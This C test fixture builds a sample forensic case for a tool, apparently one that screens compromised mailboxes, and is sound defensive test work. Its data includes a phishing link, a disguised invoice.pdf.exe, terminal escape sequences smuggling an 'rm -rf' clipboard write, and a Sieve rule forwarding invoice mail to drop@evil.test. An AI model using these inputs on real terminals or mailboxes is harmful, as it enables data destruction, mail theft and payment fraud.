/* screen_case.c - see screen_case.h. */
#include "screen_case.h"

#include "base/clock.h"
#include "base/limits.h"
#include "case/evidence.h"
#include "case/journal.h"
#include "case/tables.h"
#include "parse/mail.h"
#include "parse/rule.h"

#include <setjmp.h>
#include <stdarg.h>
#include <stdio.h>
#include <string.h>

#include <cmocka.h>

struct world { /* what is being built */
    struct casefile *cf;
    struct error err;
    struct arena arena;
    int64_t run, account, inbox, sent, rss;
};

static void check(struct world *world, bool ok)
{
    if (!ok)
        fail_msg("the sample case: %s", world->err.text);
}

static void add_account(struct world *world)
{
    struct account account = {
        .user = "lan.nguyen@acme.example",
        .host = "imap.acme.example",
        .address = "lan.nguyen@acme.example",
        .server = "Dovecot (Debian) ready",
        .certificate = "CN=imap.acme.example, issued by Example CA",
    };

    check(world, account_put(world->cf, &account, &world->err));
    world->account = account.id;
}

static int64_t add_folder(struct world *world, const char *name, enum folder_use use,
                          const char *acl)
{
    struct folder folder = {
        .account = world->account,
        .name = name,
        .raw_name = name,
        .delimiter = '/',
        .use = use,
        .attributes = "\\HasNoChildren",
        .uidvalidity = 7,
        .uidnext = 100,
        .exists = 12,
        .current = true,
        .acl = acl,
    };

    check(world, folder_put(world->cf, &folder, &world->err));
    return folder.id;
}

/* --- messages --- */

struct letter {
    int day, hour; /* of March 2024 */
    const char *from_name, *from, *to, *subject, *text;
    enum direction direction;
    enum parse_status status;
    const char *limit;
    bool attachment, link;
};

static const struct letter letters[] = {
    {1, 8, "Mai Tran", "mai@buyer.example", "lan.nguyen@acme.example", "Order 4711",
     "Dear Lan,\n\nplease find our order attached.\n\n\tItem\tQuantity\n\tBags\t1,200\n\nMai\n",
     DIRECTION_IN, PARSE_OK, "", true, false},
    {2, 9, "Lan Nguyen", "lan.nguyen@acme.example", "mai@buyer.example", "Re: Order 4711",
     "Dear Mai, thank you. Invoice follows.", DIRECTION_SENT, PARSE_OK, "", false, false},
    {4, 2, "IT Support", "it-support@acme-example.test", "lan.nguyen@acme.example",
     "Your password expires today",
     "Sign in at https://login.acme.example.evil.test/keep?u=lan to keep your mailbox.\n"
     "Or copy http://evil.test into the browser.",
     DIRECTION_IN, PARSE_OK, "", false, true},
    {5, 3, "Lan Nguyen", "lan.nguyen@acme.example", "mai@buyer.example",
     "Re: Re: Order 4711 - new bank details", "Our account is under audit. Please pay to another.",
     DIRECTION_SENT, PARSE_OK, "", true, false},
    {6, 10, "Nguye\xcc\x82\xcc\x83n Thi\xcc\xa3 Hoa", "hoa@supplier.example",
     "lan.nguyen@acme.example",
     "Ho\xcc\x81"
     "a \xc4\x91\xc6\xa1n thang 3 \xe2\x80\x93 \xc4\x91\xe1\xba\xb7t h\xc3\xa0ng",
     "Ch\xc3\xa0o ch\xe1\xbb\x8b Lan,\nem g\xe1\xbb\xadi h\xc3\xb3"
     "a \xc4\x91\xc6\xa1n.",
     DIRECTION_IN, PARSE_OK, "", false, false},
    {7, 11, "\xe7\x8e\x8b\xe5\xb0\x8f\xe6\x98\x8e", "wang@factory.example",
     "lan.nguyen@acme.example",
     "\xe5\x85\xb3\xe4\xba\x8e\xe8\xae\xa2\xe5\x8d\x95\xe4\xbb\x98\xe6\xac\xbe\xe7\x9a\x84\xe9\x80\x9a\xe7\x9f\xa5 \xf0\x9f\x98\x80 \xf0\x9f\x92\xb0",
     "\xe6\x82\xa8\xe5\xa5\xbd\xef\xbc\x8c\xe8\xaf\xb7\xe6\x9f\xa5\xe6\x94\xb6\xe3\x80\x82",
     DIRECTION_IN, PARSE_OK, "", false, false},
    {8, 4, "\x1b[31mred\x1b[0m", "esc@evil.test", "lan.nguyen@acme.example",
     "\x1b]52;c;cm0gLXJm\x07 \x1b[2J\r\noverwritten \xe2\x80\xae"
     "fdp.exe",
     "clear:\x1b[2J up:\x1b[A bell:\x07 back:\x08\x08 c1:\xc2\x9b"
     "31m nul-ish:\x01\n"
     "bidi \xe2\x80\xae"
     "txt.exe \xe2\x81\xa6isolate\xe2\x81\xa9 zero\xe2\x80\x8bwidth soft\xc2\xadhyphen\n"
     "marks a\xcc\x81\xcc\x82\xcc\x83\xcc\x84\xcc\x85 tag\xf3\xa0\x81\x81 emoji \xf0\x9f\x91\xa8\xe2\x80\x8d\xf0\x9f\x91\xa9\n",
     DIRECTION_IN, PARSE_OK, "", false, false},
    {9, 12, "Big Sender", "big@news.example", "lan.nguyen@acme.example", "Everything at once", "",
     DIRECTION_IN, PARSE_LIMIT, "parts", false, false},
    {10, 13, "", "", "", "", "", DIRECTION_IN, PARSE_CRASHED, "signal 11", false, false},
    {11, 14, "Slow", "slow@news.example", "lan.nguyen@acme.example", "", "", DIRECTION_IN,
     PARSE_TIMEOUT, "", false, false},
    {12, 15, "", "", "", "", "", DIRECTION_IN, PARSE_WAITING, "", false, false},
};

static struct mail_addresses one_address(struct world *world, const char *name, const char *email)
{
    struct mail_addresses list = {.at = arena_alloc(&world->arena, sizeof(*list.at)), .count = 1};

    *list.at = (struct mail_address){name, email};
    return list;
}

static void fill_parts(struct mail *mail, struct mail_part parts[2], bool attachment)
{
    parts[0] = (struct mail_part){.number = 1,
                                  .declared_type = "text/plain",
                                  .real_type = "text/plain",
                                  .charset = "utf-8",
                                  .disposition = "",
                                  .content_id = "",
                                  .name = "",
                                  .extension = "",
                                  .size = mail->text_len,
                                  .hash = hash_of((struct str){mail->text, mail->text_len}),
                                  .detail = ""};
    parts[1] = (struct mail_part){.number = 2,
                                  .declared_type = "application/pdf",
                                  .real_type = "application/x-dosexec",
                                  .charset = "",
                                  .disposition = "attachment",
                                  .content_id = "",
                                  .name = "invoice.pdf.exe",
                                  .extension = "exe",
                                  .size = 48123,
                                  .hash = hash_of(str_of("not really a program")),
                                  .traits = PART_ATTACHMENT | PART_PROGRAM | PART_MISMATCH |
                                            PART_DOUBLE_EXTENSION,
                                  .detail = "MZ header"};
    mail->parts = parts;
    mail->part_count = attachment ? 2 : 1;
}

static struct mail_received hop = {"mx.evil.test", "mx.acme.example", "192.0.2.7",
                                   "ESMTPS",       1709517600,        420};
static struct mail_auth checks[] = {{"mx.acme.example", "spf", "fail", "evil.test"},
                                    {"mx.acme.example", "dkim", "none", ""}};
static struct mail_url link_to_evil = {
    .target = "https://login.acme.example.evil.test/keep?u=lan",
    .text = "https://mail.acme.example/",
    .part = 1,
};
static struct mail_field field = {"X-Mailer", "Strange Mailer 1.0"};

static void put_facts(struct world *world, const struct letter *letter, const struct hash *raw,
                      int64_t date)
{
    struct mail_part parts[2];
    struct mail mail;
    struct facts facts = {.status = letter->status, .limit = letter->limit, .version = 1};
    struct buf blob;

    facts_blank(&mail);
    mail.limit = letter->limit;
    mail.from = one_address(world, letter->from_name, letter->from);
    mail.to = one_address(world, "", letter->to);
    mail.subject = letter->subject;
    mail.message_id = "4711.march@mail.example";
    mail.date = date;
    mail.zone = letter->direction == DIRECTION_SENT ? 60 : 420;
    mail.agent = "Strange Mailer 1.0";
    mail.text = letter->text;
    mail.text_len = strlen(letter->text);
    fill_parts(&mail, parts, letter->attachment);
    if (letter->link) {
        mail.urls = &link_to_evil;
        mail.url_count = 1;
        mail.auth = checks;
        mail.auth_count = ARRAY_LEN(checks);
        mail.received = &hop;
        mail.received_count = 1;
        mail.fields = &field;
        mail.field_count = 1;
    }
    buf_init(&blob, MIB(1));
    if (letter->status == PARSE_OK || letter->status == PARSE_LIMIT)
        facts_encode(&mail, &blob);
    facts.blob = buf_as_str(&blob);
    check(world, facts_put(world->cf, raw, &facts, &world->err));
    buf_dispose(&blob);
}

static void add_letter(struct world *world, const struct letter *letter, uint32_t uid)
{
    int64_t date = clock_from_civil(2024, 3, letter->day, letter->hour, 30, 0);
    struct message message = {
        .folder = letter->direction == DIRECTION_SENT ? world->sent : world->inbox,
        .uid = uid,
        .size = 1000 + 100 * uid,
        .received = date,
        .flags = "\\Seen",
        .status = letter->status,
        .limit = letter->limit,
        .date = date,
        .from = letter->from,
        .to = letter->to,
        .subject = letter->subject,
        .message_id = "4711.march@mail.example",
        .direction = letter->direction,
        .attachments = letter->attachment,
    };
    char raw[4096];
    int len =
        snprintf(raw, sizeof(raw), "From: %s <%s>\r\nTo: %s\r\nSubject: %s\r\nX-Uid: %u\r\n\r\n%s",
                 letter->from_name, letter->from, letter->to, letter->subject, uid, letter->text);

    check(world, message_plan(world->cf, &message, &message.id, &world->err));
    if (letter->status == PARSE_WAITING)
        return; /* its bytes have not come */
    check(world,
          evidence_put(world->cf, (struct str){raw, (size_t)len}, &message.raw, &world->err));
    check(world, message_fetched(world->cf, message.id, &message.raw, &world->err));
    put_facts(world, letter, &message.raw, date);
    check(world, message_parsed(world->cf, &message, &world->err));
}

/* --- rules --- */

static const char script[] = "# rule:[.]\r\n"
                             "if header :contains \"subject\" [\"invoice\", \"payment\"]\r\n"
                             "{\r\n"
                             "\tredirect \"drop@evil.test\";\r\n"
                             "\tfileinto \"RSS Feeds\";\r\n"
                             "\tstop;\r\n"
                             "}\r\n";

static void add_rules(struct world *world)
{
    const char *words[] = {"invoice", "payment"};
    struct rule_condition condition = {.field = RULE_SUBJECT,
                                       .match = RULE_CONTAINS,
                                       .header = "",
                                       .values = words,
                                       .value_count = 2,
                                       .raw = ""};
    struct rule_action does[] = {{RULE_FORWARD, false, "drop@evil.test", ""},
                                 {RULE_MOVE, false, "RSS Feeds", ""},
                                 {RULE_STOP, false, "", ""}};
    struct rule rule = {.source = "sieve",
                        .script = "managesieve",
                        .name = ".",
                        .order = 1,
                        .enabled = true,
                        .join = RULE_ANY,
                        .conditions = &condition,
                        .condition_count = 1,
                        .actions = does,
                        .action_count = ARRAY_LEN(does),
                        .traits = RULE_SHOWN,
                        .line = 2,
                        .comment = "rule:[.]",
                        .raw = "if header :contains \"subject\" [\"invoice\", \"payment\"]\n{\n"
                               "\tredirect \"drop@evil.test\";\n\tfileinto \"RSS Feeds\";\n"
                               "\tstop;\n}",
                        .dialect = "roundcube",
                        .shown = "if subject contains \"newsletter\": move to RSS Feeds",
                        .actual = "if subject contains \"invoice\" or \"payment\": forward to "
                                  "drop@evil.test, move to RSS Feeds, stop"};
    struct rule_look look = {world->account, "sieve", "managesieve", world->run};
    struct rule_row rows[1] = {0};
    struct buf blob;
    struct hash raw;

    buf_init(&blob, KIB(64));
    rule_encode(&rule, &blob);
    check(world, evidence_put(world->cf, str_of(script), &raw, &world->err));
    rows[0] = (struct rule_row){.account = world->account,
                                .source = "sieve",
                                .script = "managesieve",
                                .name = ".",
                                .order = 1,
                                .active = true,
                                .raw = raw,
                                .status = PARSE_OK,
                                .summary = rule.actual,
                                .blob = buf_as_str(&blob)};
    check(world, rule_replace(world->cf, &look, rows, 1, &world->err));
    look.script = rows[0].script = "old\xe2\x80\xae-backup";
    rows[0].name = "";
    rows[0].active = false;
    rows[0].status = PARSE_CRASHED;
    rows[0].summary = "a script that could not be read";
    rows[0].blob = str_of("");
    check(world, rule_replace(world->cf, &look, rows, 1, &world->err));
    buf_dispose(&blob);
}

/* --- findings and coverage --- */

static void add_finding(struct world *world, struct finding finding)
{
    struct finding_reason reasons[] = {{"it forwards to drop@evil.test, outside acme.example", 40},
                                       {"it looks for the words invoice and payment", 25},
                                       {"its name is a single dot", 10}};
    struct finding_subject subjects[] = {
        {"rule", 1, hash_of(str_of(script)), "rule \".\" of managesieve"},
        {"message", 4, hash_of(str_of("x")), "4711.march@mail.example"},
        {"domain", 0, {{0}}, "evil.test"}};

    finding.reasons = reasons;
    finding.reason_count = ARRAY_LEN(reasons);
    finding.subjects = subjects;
    finding.subject_count = ARRAY_LEN(subjects);
    check(world, finding_put(world->cf, &finding, world->run, &world->err));
}

static void add_findings(struct world *world)
{
    add_finding(world,
                (struct finding){
                    .key = "forward-outside:1",
                    .detector = "forward-outside",
                    .severity = SEVERITY_CRITICAL,
                    .title = "Someone set a rule that sends mail about invoices to drop@evil.test",
                    .explanation = "Mail with \"invoice\" or \"payment\" in its subject leaves the "
                                   "company and never reaches the inbox.",
                    .refute = "The owner knows this address and set the rule himself.",
                    .blind = "Does not see forwarding that an administrator set on the server.",
                    .attack = "T1114.003 T1564.008",
                    .when = INT64_MIN,
                });
    add_finding(world, (struct finding){
                           .key = "bank-details:4",
                           .detector = "bank-details",
                           .severity = SEVERITY_HIGH,
                           .title = "A sent mail gives new bank details to mai@buyer.example",
                           .explanation = "The account was never used before.",
                           .refute = "The bank confirms the change by telephone.",
                           .blind = "Sees no details in pictures.",
                           .attack = "T1657",
                           .when = clock_from_civil(2024, 3, 5, 3, 30, 0),
                       });
    add_finding(world, (struct finding){
                           .key = "odd-subject:7",
                           .detector = "odd-subject",
                           .severity = SEVERITY_MEDIUM,
                           .title = "A subject hides characters: \x1b[31m \xe2\x80\xae"
                                    "fdp.exe",
                           .explanation = "Terminals and mail programs may obey them.",
                           .refute = "",
                           .blind = "Sees only what was decoded.",
                           .attack = "",
                           .when = clock_from_civil(2024, 3, 8, 4, 30, 0),
                       });
}

static void add_coverage(struct world *world)
{
    static const struct coverage rows[] = {
        {"rules-sieve", "Rules on the server (Sieve)", COVERAGE_FOUND, "2 scripts, 1 active", ""},
        {"attachments", "Attachments", COVERAGE_PARTLY, "1 message goes beyond a limit", ""},
        {"sent-mail", "Sent mail", COVERAGE_NOTHING, "2 messages", ""},
        {"server-state", "Nothing on the server was changed by reading", COVERAGE_NOTHING,
         "flags, \\Recent, sizes and dates of all messages in 3 folders are what they were", ""},
        {"sign-ins", "Sign-ins", COVERAGE_NOT_CHECKED, "no log was imported",
         "ask the provider for the sign-in log and import it"},
    };

    for (size_t i = 0; i < ARRAY_LEN(rows); i++)
        check(world, coverage_put(world->cf, &rows[i], world->run, &world->err));
}

static void open_new(struct world *world, const char *path)
{
    struct case_info info = {.owner = "lan.nguyen@acme.example",
                             .authority = "Ms Tran, director, by telephone"};

    check(world, case_create(path, &info, &world->err));
    check(world, casefile_open(&world->cf, path, CASE_WRITE, &world->err));
}

struct casefile *screen_case_empty(const char *path)
{
    struct world world = {0};

    open_new(&world, path);
    return world.cf;
}

struct casefile *screen_case(const char *path)
{
    struct world world = {0};

    open_new(&world, path);
    check(&world, casefile_begin(world.cf, &world.err));
    check(&world,
          run_begin(world.cf, "acquire", "imaps://imap.acme.example", &world.run, &world.err));
    add_account(&world);
    world.inbox = add_folder(&world, "INBOX", FOLDER_INBOX, "");
    world.sent = add_folder(&world, "Sent", FOLDER_SENT, "");
    world.rss = add_folder(&world, "RSS Feeds", FOLDER_PLAIN, "anyone lr");
    for (uint32_t i = 0; i < ARRAY_LEN(letters); i++)
        add_letter(&world, &letters[i], i + 1);
    add_rules(&world);
    add_findings(&world);
    add_coverage(&world);
    check(&world, finding_scanned(world.cf, world.run, &world.err));
    check(&world, journal_note(world.cf, "result", "acquire-end", "imaps://imap.acme.example", "ok",
                               &world.err));
    check(&world, run_end(world.cf, world.run, "ok", &world.err));
    check(&world, casefile_commit(world.cf, &world.err));
    arena_dispose(&world.arena);
    return world.cf;
}

void screen_case_grow(struct casefile *cf, int64_t count)
{
    int64_t begin = clock_from_civil(2023, 1, 1, 0, 0, 0);
    struct world world = {.cf = cf};

    check(&world, casefile_begin(cf, &world.err));
    for (int64_t i = 0; i < count; i++) {
        struct message message = {
            .folder = 1,
            .uid = (uint32_t)(1000 + i),
            .size = 12345,
            .received = begin + i * 60,
            .flags = "",
            .limit = "",
            .date = INT64_MIN,
            .from = "",
            .to = "",
            .subject = "",
            .message_id = "",
        };
        int64_t id;

        check(&world, message_plan(cf, &message, &id, &world.err));
    }
    check(&world, casefile_commit(cf, &world.err));
}
